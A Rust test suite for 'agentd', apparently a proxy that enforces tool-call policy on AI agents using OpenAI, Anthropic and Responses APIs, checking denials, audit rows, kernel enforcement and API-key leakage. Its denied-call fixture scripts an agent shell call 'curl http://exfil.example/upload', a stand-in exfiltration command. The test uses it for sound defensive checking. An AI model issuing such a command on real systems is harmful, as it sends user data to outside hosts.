//! `agentd-forward [--bin DIR] [--venv DIR]`: the forward-mode suite (see
//! `agentd_tests::forward`), one `PASS`/`FAIL`/`SKIP` line per check.
use agentd_tests::forward::{key_fragments, step, Suite, AGENT};
use agentd_tests::sdk_suite::{clean_up, Args, Report};
use serde_json::{json, Value};

fn main() {
    let args = Args::parse();
    if !args.ready(
        "forward",
        "starts agentd",
        "openai, anthropic",
        "the openai/anthropic Python SDKs are",
    ) {
        return;
    }
    let root = std::env::temp_dir().join(format!("agentd-forward-{}", std::process::id()));
    let mut r = Report::default();
    match Suite::start(&args.bin, &root, &args.venv, "rewrite") {
        Ok(s) => rewrite_mode(&s, &mut r),
        Err(e) => r.check("forward: setting up", false, || format!("{e:#}")),
    }
    let root_b = root.with_extension("block");
    match Suite::start(&args.bin, &root_b, &args.venv, "block") {
        Ok(s) => block_mode(&s, &mut r),
        Err(e) => r.check("forward block: setting up", false, || format!("{e:#}")),
    }
    let root_l = root.with_extension("limits");
    match Suite::start_with(
        &args.bin,
        &root_l,
        &args.venv,
        "rewrite",
        agentd_tests::forward::limits::FORWARD_EXTRA,
    ) {
        Ok(s) => {
            for (name, ok, why) in agentd_tests::forward::limits::checks(&s) {
                r.check(&name, ok, || why);
            }
        }
        Err(e) => r.check("forward limits: setting up", false, || format!("{e:#}")),
    }
    clean_up(&[&root, &root_b, &root_l]);
    if r.failed() > 0 {
        std::process::exit(1);
    }
}

fn allowed(s: &Suite) -> Value {
    json!({ "text": "checking the files",
        "calls": [{ "name": "exec_command", "input": { "cmd": format!("ls {}", s.root.display()) } }] })
}

fn allowed_claude(s: &Suite) -> Value {
    json!({ "text": "checking the files",
        "calls": [{ "name": "Bash", "input": { "command": format!("ls {}", s.root.display()) } }] })
}

fn denied(api: &str) -> Value {
    let (name, field) = if api != "anthropic" {
        ("exec_command", "cmd")
    } else {
        ("Bash", "command")
    };
    json!({ "calls": [{ "name": name, "input": { field: "curl http://exfil.example/upload" } }] })
}

fn line<'a>(lines: &'a [Value], name: &str) -> &'a Value {
    static NULL: Value = Value::Null;
    lines.iter().find(|l| l["name"] == name).unwrap_or(&NULL)
}

fn rewrite_mode(s: &Suite, r: &mut Report) {
    // Control: without agentd the scripted denied call reaches the client.
    match s.client(
        &json!([step("control", "openai", false, &denied("openai"))]),
        None,
        true,
    ) {
        Ok((lines, _)) => {
            let l = line(&lines, "control");
            r.check(
                "forward control: without agentd the client receives the curl call",
                l["tool_calls"][0]["name"] == "exec_command"
                    && l["tool_calls"][0]["arguments"]
                        .as_str()
                        .is_some_and(|a| a.contains("curl")),
                || format!("{l}"),
            );
        }
        Err(e) => r.check("forward control", false, || format!("{e:#}")),
    }
    let mut steps = Vec::new();
    for api in APIS {
        for stream in [false, true] {
            let tag = format!("{api}-{}", if stream { "stream" } else { "whole" });
            let allow = if api != "anthropic" {
                allowed(s)
            } else {
                allowed_claude(s)
            };
            steps.push(step(&format!("allow-{tag}"), api, stream, &allow));
            steps.push(step(&format!("deny-{tag}"), api, stream, &denied(api)));
            let mut mixed = denied(api);
            let good = allow["calls"][0].clone();
            if let Some(c) = mixed["calls"].as_array_mut() {
                c.push(good);
            }
            mixed["text"] = json!("two calls");
            steps.push(step(&format!("mixed-{tag}"), api, stream, &mixed));
            steps.push(step(
                &format!("badargs-{tag}"),
                api,
                stream,
                &json!({ "calls": [{ "name": if api != "anthropic" { "exec_command" } else { "Bash" }, "raw": "{\"cmd\": \"ls" }] }),
            ));
        }
    }
    // The Responses stream helper (it checks every item's identity and order).
    for (kind, d) in [("allow", allowed(s)), ("deny", denied("responses"))] {
        let mut st = step(&format!("{kind}-responses-helper"), "responses", true, &d);
        st["helper"] = json!(true);
        steps.push(st);
    }
    for (name, api, stream, d) in [
        ("fail500-openai", "openai", false, json!({ "fail": 500 })),
        (
            "fail500-anthropic",
            "anthropic",
            false,
            json!({ "fail": 500 }),
        ),
        (
            "fail401-openai",
            "openai",
            false,
            json!({ "fail": 401, "echo_key": true }),
        ),
        (
            "fail401-anthropic",
            "anthropic",
            true,
            json!({ "fail": 401, "echo_key": true }),
        ),
        (
            "reset-openai",
            "openai",
            true,
            json!({ "text": "partial answer", "reset": true }),
        ),
        (
            "reset-anthropic",
            "anthropic",
            true,
            json!({ "text": "partial answer", "reset": true }),
        ),
        (
            "reset-responses",
            "responses",
            true,
            json!({ "text": "partial answer", "reset": true }),
        ),
        (
            "fail500-responses",
            "responses",
            true,
            json!({ "fail": 500 }),
        ),
        (
            "stall-openai",
            "openai",
            true,
            json!({ "text": "partial answer", "stall": true }),
        ),
        (
            "garbage-openai",
            "openai",
            false,
            json!({ "garbage": true }),
        ),
        (
            "garbage-anthropic",
            "anthropic",
            false,
            json!({ "garbage": true }),
        ),
    ] {
        steps.push(step(name, api, stream, &d));
    }
    let (lines, output) = match s.client(&Value::Array(steps), Some(&s.active), false) {
        Ok(x) => x,
        Err(e) => return r.check("forward: SDK client", false, || format!("{e:#}")),
    };
    for api in APIS {
        let (stop_tool, stop_text) = match api {
            "openai" => ("tool_calls", "stop"),
            // Responses has no stop reason for calls: the response completes.
            "responses" => ("completed", "completed"),
            _ => ("tool_use", "end_turn"),
        };
        for stream in ["whole", "stream"] {
            let tag = format!("{api}-{stream}");
            let l = line(&lines, &format!("allow-{tag}"));
            r.check(
                &format!("forward {tag}: an allowed call passes unchanged"),
                l["ok"] == true
                    && l["tool_calls"].as_array().is_some_and(|c| c.len() == 1)
                    && l["tool_calls"][0]["arguments"]
                        .as_str()
                        .is_some_and(|a| a.contains("ls "))
                    && l["stop"] == stop_tool
                    && l["text"] == "checking the files",
                || format!("{l}"),
            );
            let l = line(&lines, &format!("deny-{tag}"));
            r.check(
                &format!("forward {tag}: a denied call never reaches the client (rewritten)"),
                l["ok"] == true
                    && l["tool_calls"].as_array().is_some_and(Vec::is_empty)
                    && l["text"]
                        .as_str()
                        .is_some_and(|t| t.contains("[agentd]") && t.contains("denied"))
                    && l["stop"] == stop_text
                    && !l.to_string().contains("exfil.example/upload\\\"}"),
                || format!("{l}"),
            );
            let l = line(&lines, &format!("mixed-{tag}"));
            r.check(
                &format!("forward {tag}: of two calls only the allowed one passes"),
                l["ok"] == true
                    && l["tool_calls"].as_array().is_some_and(|c| c.len() == 1)
                    && l["tool_calls"][0]["arguments"]
                        .as_str()
                        .is_some_and(|a| a.contains("ls "))
                    && l["text"]
                        .as_str()
                        .is_some_and(|t| t.contains("two calls") && t.contains("[agentd]"))
                    && l["stop"] == stop_tool,
                || format!("{l}"),
            );
            if api == "anthropic" && stream == "whole" {
                // A whole Messages answer carries the input as a JSON
                // object: it cannot hold argument text that is not JSON.
                continue;
            }
            let l = line(&lines, &format!("badargs-{tag}"));
            r.check(
                &format!("forward {tag}: arguments that are not JSON are denied"),
                l["ok"] == true
                    && l["tool_calls"].as_array().is_some_and(Vec::is_empty)
                    && l["text"]
                        .as_str()
                        .is_some_and(|t| t.contains("invalid_tool_input")),
                || format!("{l}"),
            );
        }
    }
    let l = line(&lines, "allow-responses-helper");
    r.check(
        "forward responses-helper: an allowed call passes the SDK's stream helper",
        l["ok"] == true && l["tool_calls"].as_array().is_some_and(|c| c.len() == 1),
        || format!("{l}"),
    );
    let l = line(&lines, "deny-responses-helper");
    r.check(
        "forward responses-helper: a denied call, rewritten to a message, passes the SDK's stream helper",
        l["ok"] == true
            && l["tool_calls"].as_array().is_some_and(Vec::is_empty)
            && l["text"].as_str().is_some_and(|t| t.contains("[agentd]")),
        || format!("{l}"),
    );
    let err_status = |n: &str| line(&lines, n)["error"]["status"].clone();
    r.check(
        "forward: an upstream 500 reaches both SDKs as their own 500 error",
        err_status("fail500-openai") == 500 && err_status("fail500-anthropic") == 500,
        || {
            format!(
                "{} {}",
                line(&lines, "fail500-openai"),
                line(&lines, "fail500-anthropic")
            )
        },
    );
    let tail = &s.canary[s.canary.len() - 4..];
    let l401 = format!(
        "{}{}",
        line(&lines, "fail401-openai"),
        line(&lines, "fail401-anthropic")
    );
    r.check(
        "forward: an upstream 401 quoting the masked key is withheld (status kept)",
        err_status("fail401-openai") == 401
            && err_status("fail401-anthropic") == 401
            && !l401.contains(&format!("*{tail}")),
        || l401.clone(),
    );
    for n in [
        "reset-openai",
        "reset-anthropic",
        "reset-responses",
        "fail500-responses",
        "stall-openai",
        "garbage-openai",
        "garbage-anthropic",
    ] {
        let l = line(&lines, n);
        r.check(
            &format!("forward {n}: the SDK raises the provider's error"),
            l["ok"] == false
                && l["error"]["type"]
                    .as_str()
                    .is_some_and(|t| t.ends_with("Error")),
            || format!("{l}"),
        );
    }
    // Decision rows: the same rows a hook's call makes (action, arguments, reason).
    match s.call_rows() {
        Ok(rows) => {
            let allows = rows
                .iter()
                .filter(|r| r["decision"] == "allow" && r["action"] == "shell")
                .count();
            let denies = rows
                .iter()
                .filter(|r| {
                    r["decision"] == "deny"
                        && r["action"] == "shell"
                        && r["target"].as_str().is_some_and(|t| t.contains("curl"))
                })
                .count();
            let bad = rows
                .iter()
                .filter(|r| r["reason_code"] == "invalid_tool_input")
                .count();
            // Per API and mode: allow, deny, mixed (one of each), bad
            // arguments (whole Messages answers cannot carry them); plus
            // the two Responses helper steps.
            let (want_allow, want_deny) = (APIS.len() * 4 + 1, APIS.len() * 4 + 1);
            let want_bad = APIS.len() * 2 - 1;
            r.check(
                &format!("forward: every decided call has its decision row ({want_allow} allows, {want_deny} curl denials, {want_bad} invalid inputs)"),
                allows == want_allow && denies == want_deny && bad == want_bad
                    && rows.iter().all(|r| r["active_message_id"] == s.active.as_str() && r["policy_id"].as_str().is_some_and(|p| p.starts_with("forward-suite@"))),
                || {
                    let odd: Vec<&Value> = rows
                        .iter()
                        .filter(|r| r["active_message_id"] != s.active.as_str() || !r["policy_id"].as_str().is_some_and(|p| p.starts_with("forward-suite@")))
                        .collect();
                    format!("allows {allows} denies {denies} invalid {bad}; rows off the message or policy: {odd:?}")
                },
            );
        }
        Err(e) => r.check("forward: decision rows", false, || format!("{e:#}")),
    }
    match s.exchange_rows() {
        Ok(rows) => {
            let parsed: Vec<Value> = rows
                .iter()
                .filter_map(|r| {
                    r["target"]
                        .as_str()
                        .and_then(|t| serde_json::from_str(t).ok())
                })
                .collect();
            let with_tokens = parsed
                .iter()
                .filter(|p| p["input_tokens"].is_u64() && p["output_tokens"].is_u64())
                .count();
            let outcomes: Vec<&str> = rows
                .iter()
                .filter_map(|r| r["reason_code"].as_str())
                .collect();
            r.check(
                "forward: every exchange is a row (provider, model, tokens, calls with decisions, outcome)",
                rows.len() >= 25
                    && with_tokens >= 16
                    && parsed.iter().any(|p| p["provider"] == "anthropic" && p["tool_calls"][0]["decision"] == "deny")
                    && parsed.iter().any(|p| p["provider"] == "openai_chat" && p["tool_calls"][0]["decision"] == "allow" && p["model"] == "gpt-fwd")
                    && outcomes.contains(&"upstream_reset")
                    && outcomes.contains(&"upstream_timeout")
                    && outcomes.contains(&"upstream_malformed"),
                || format!("{} rows, {with_tokens} with tokens, outcomes {outcomes:?}", rows.len()),
            );
        }
        Err(e) => r.check("forward: exchange rows", false, || format!("{e:#}")),
    }
    for (name, ok, why) in agentd_tests::forward::gemini::checks(s) {
        r.check(&name, ok, || why);
    }
    in_agent(s, r);
    // After in_agent: its check reads the first kernel row on `ls`.
    for (name, ok, why) in agentd_tests::forward::tcp::checks(s) {
        r.check(&name, ok, || why);
    }
    // No active message: every call is denied (text still passes).
    match s.client(
        &json!([step("noactive", "openai", false, &allowed(s))]),
        None,
        false,
    ) {
        Ok((lines, _)) => {
            let l = line(&lines, "noactive");
            r.check(
                "forward: without an active message the call is denied (no_active_message)",
                l["tool_calls"].as_array().is_some_and(Vec::is_empty)
                    && l["text"]
                        .as_str()
                        .is_some_and(|t| t.contains("no_active_message")),
                || format!("{l}"),
            );
        }
        Err(e) => r.check("forward: no active message", false, || format!("{e:#}")),
    }
    // Not inference: refused in the provider's shape, never forwarded.
    let before = s.upstream.requests().len();
    let files = s.raw("POST", "/v1/files", "{}");
    let models = s.raw("GET", "/v1/models", "");
    let anth = s.raw("POST", "/v1/messages/batches", "{}");
    let bad = s.raw("POST", "/v1/chat/completions", "{not json");
    let after = s.upstream.requests().len();
    r.check(
        "forward: files, models and batches are 404 in the provider's shape; malformed JSON is 400; none reach the upstream",
        matches!(&files, Ok((404, b)) if b.contains("\"error\"") && b.contains("invalid_request_error"))
            && matches!(&models, Ok((404, _)))
            && matches!(&anth, Ok((404, b)) if b.contains("not_found_error"))
            && matches!(&bad, Ok((400, b)) if b.contains("\"error\""))
            && before == after,
        || format!("{files:?} {models:?} {anth:?} {bad:?} upstream {before}->{after}"),
    );
    // The canary: at the upstream, and nowhere else.
    let reqs = s.upstream.requests();
    let at_upstream = reqs
        .iter()
        .filter(|q| {
            q.headers.iter().any(|(k, v)| {
                (k == "authorization" && *v == format!("Bearer {}", s.canary))
                    || ((k == "x-api-key" || k == "x-goog-api-key") && *v == s.canary)
            })
        })
        .count();
    // Only the control, which went straight to the upstream, shows the client's key.
    let placeholder = reqs
        .iter()
        .filter(|q| q.headers.iter().any(|(_, v)| v.contains("client-side")))
        .count()
        != 1;
    let audit = s
        .agentd
        .audit()
        .map(|rows| Value::Array(rows).to_string())
        .unwrap_or_default();
    let log = std::fs::read_to_string(s.agentd.dir.join("agentd.log")).unwrap_or_default();
    let leaks: Vec<String> = [
        ("client output", &output),
        ("audit log", &audit),
        ("agentd log", &log),
    ]
    .iter()
    .flat_map(|(w, t)| {
        key_fragments(t, &s.canary)
            .into_iter()
            .map(move |f| format!("{w}: {f}"))
    })
    .collect();
    r.check(
        "forward: the canary key reaches the upstream only (not the client, the audit log or agentd's log); the client's own key never reaches the upstream",
        at_upstream + 1 == reqs.len() && !placeholder && leaks.is_empty() && !audit.is_empty(),
        || format!("upstream saw it {at_upstream}/{} times; placeholder forwarded {placeholder}; leaks {leaks:?}", reqs.len()),
    );
}

/// A runtime with no hook — a plain Python loop on the SDKs — inside the
/// agent: the allowed call's grant is pending for the loop's tree, so the
/// command it runs is claimed in the kernel; a command no call allowed is
/// refused by the kernel; a denied call never reaches the loop.
fn in_agent(s: &Suite, r: &mut Report) {
    let mut allow = step("agent-allow", "openai", true, &allowed(s));
    allow["run"] = json!(true);
    allow["also_run"] = json!("/usr/bin/id");
    let mut deny = step("agent-deny", "anthropic", false, &denied("anthropic"));
    deny["run"] = json!(true);
    let (lines, output) = match s.client_in_agent(&json!([allow, deny])) {
        Ok(x) => x,
        Err(e) => return r.check("forward in agent: SDK client", false, || format!("{e:#}")),
    };
    let a = line(&lines, "agent-allow");
    let d = line(&lines, "agent-deny");
    let rows = s.agentd.kernel_rows(AGENT).unwrap_or_default();
    let calls = s.call_rows().unwrap_or_default();
    let allow_row = calls
        .iter()
        .rev()
        .find(|c| c["decision"] == "allow" && c["action"] == "shell");
    let ls_row = rows.iter().find(|k| {
        k["decision"] == "allow" && k["target"].as_str().is_some_and(|t| t.ends_with("/ls"))
    });
    let claimed = match (allow_row, ls_row) {
        (Some(c), Some(k)) => k["call_id"] == c["call_id"],
        _ => false,
    };
    r.check(
        "forward in agent: the allowed call reaches the loop, runs, and its exec claims the call's grant in the kernel",
        a["ok"] == true && a["ran"][0]["rc"] == 0 && a["ran"][0]["out"].as_str().is_some_and(|o| o.contains("client.py")) && claimed,
        || format!("{a}; decision {allow_row:?}; kernel row {ls_row:?}; {output}"),
    );
    let id_row = rows.iter().find(|k| {
        k["decision"] == "deny" && k["target"].as_str().is_some_and(|t| t.ends_with("/id"))
    });
    r.check(
        "forward in agent: a command no call allowed is refused by the kernel, and audited",
        a["also_ran"]["errno"] == 1 && id_row.is_some(),
        || format!("{}; kernel row {id_row:?}", a["also_ran"]),
    );
    let curl_row = rows
        .iter()
        .find(|k| k["target"].as_str().is_some_and(|t| t.ends_with("/curl")));
    r.check(
        "forward in agent: the denied call never reaches the loop (nothing to run, no kernel row)",
        d["ok"] == true
            && d["tool_calls"].as_array().is_some_and(Vec::is_empty)
            && d["ran"].as_array().is_some_and(Vec::is_empty)
            && curl_row.is_none(),
        || format!("{d}; {curl_row:?}"),
    );
    let named = s.exchange_rows().unwrap_or_default().iter().any(|x| {
        x["agent"] == AGENT
            && x["pid"].as_u64().is_some_and(|p| p > 0)
            && x["target"]
                .as_str()
                .and_then(|t| serde_json::from_str::<Value>(t).ok())
                .is_some_and(|t| t["agent"] == AGENT)
    });
    let call_named = allow_row.is_some_and(|c| c["agent"] == AGENT);
    r.check(
        "forward in agent: the exchange rows and the calls' rows name the agent and the calling process (from the socket's peer, no token)",
        named && call_named,
        || format!("exchange row naming the agent: {named}; call row {allow_row:?}"),
    );
}

fn block_mode(s: &Suite, r: &mut Report) {
    let steps = json!([
        step("block-openai", "openai", false, &denied("openai")),
        step("block-openai-stream", "openai", true, &denied("openai")),
        step("block-anthropic", "anthropic", false, &denied("anthropic")),
        step("block-responses", "responses", false, &denied("responses")),
        step(
            "block-responses-stream",
            "responses",
            true,
            &denied("responses")
        ),
        step(
            "block-anthropic-stream",
            "anthropic",
            true,
            &denied("anthropic")
        ),
        step("allow-openai-stream", "openai", true, &allowed(s)),
    ]);
    match s.client(&steps, Some(&s.active), false) {
        Ok((lines, _)) => {
            for n in [
                "block-openai",
                "block-openai-stream",
                "block-responses",
                "block-responses-stream",
                "block-anthropic",
                "block-anthropic-stream",
            ] {
                let l = line(&lines, n);
                r.check(
                    &format!(
                        "forward {n}: a denied call ends the answer with the provider's error"
                    ),
                    l["ok"] == false
                        && l["error"]["message"]
                            .as_str()
                            .is_some_and(|m| m.contains("denied"))
                        && !l.to_string().contains("exfil.example/upload\\\"}"),
                    || format!("{l}"),
                );
            }
            let l = line(&lines, "allow-openai-stream");
            r.check(
                "forward block mode: an allowed call still passes",
                l["ok"] == true && l["tool_calls"].as_array().is_some_and(|c| c.len() == 1),
                || format!("{l}"),
            );
        }
        Err(e) => r.check("forward block mode: SDK client", false, || format!("{e:#}")),
    }
    for (name, ok, why) in agentd_tests::forward::gemini::block_checks(s) {
        r.check(&name, ok, || why);
    }
}

/// The SDK APIs every scenario runs on: Chat Completions, Responses, Messages.
const APIS: [&str; 3] = ["openai", "responses", "anthropic"];
